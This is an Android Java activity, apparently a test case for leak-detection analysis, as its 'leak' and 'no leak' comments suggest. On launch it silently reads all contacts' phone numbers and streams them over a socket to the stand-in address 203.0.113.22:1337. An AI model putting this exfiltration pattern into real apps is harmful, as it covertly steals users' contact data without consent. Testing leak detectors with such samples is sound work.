package ways;

import android.content.ContentResolver;
import android.content.Context;
import android.database.Cursor;
import android.app.Activity;
import android.os.AsyncTask;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.net.Socket;

/** Each contact, its numbers in a query of their own, in a list of the app's own, written as objects. */
public class PhoneBook extends Activity {
    static class Person implements Serializable {
        String name;
        String phone;
        Person next;
    }

    static class Chain {
        Person head;
        int size;

        void add(Person one) {
            one.next = head;
            head = one;
            size++;
        }
    }

    static class Work extends AsyncTask<Context, Integer, Chain> {
        @Override
        protected Chain doInBackground(Context... contexts) {
            ContentResolver resolver = contexts[0].getContentResolver();
            Chain chain = new Chain();
            Cursor people = resolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
            while (people != null && people.moveToNext()) {
                String id = people.getString(people.getColumnIndex(ContactsContract.Contacts._ID));
                if (Integer.parseInt(people.getString(people.getColumnIndex(ContactsContract.Contacts.HAS_PHONE_NUMBER))) <= 0) continue;
                Cursor phones = resolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null,
                        ContactsContract.CommonDataKinds.Phone.CONTACT_ID + " = ?", new String[] {id}, null);
                while (phones.moveToNext()) {
                    Person person = new Person();
                    person.phone = phones.getString(phones.getColumnIndex(ContactsContract.CommonDataKinds.Phone.NUMBER));
                    chain.add(person);
                }
                phones.close();
            }
            return chain;
        }

        @Override
        protected void onPostExecute(final Chain chain) {
            new Thread(new Runnable() {
                @Override
                public void run() {
                    try {
                        ObjectOutputStream out = new ObjectOutputStream(new Socket("203.0.113.22", 1337).getOutputStream());
                        out.writeInt(chain.size); // no leak
                        for (Person one = chain.head; one != null; one = one.next) out.writeObject(one); // leak
                    } catch (Exception e) {
                        cancel(true);
                    }
                }
            }).start();
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Work().execute(this);
    }
}
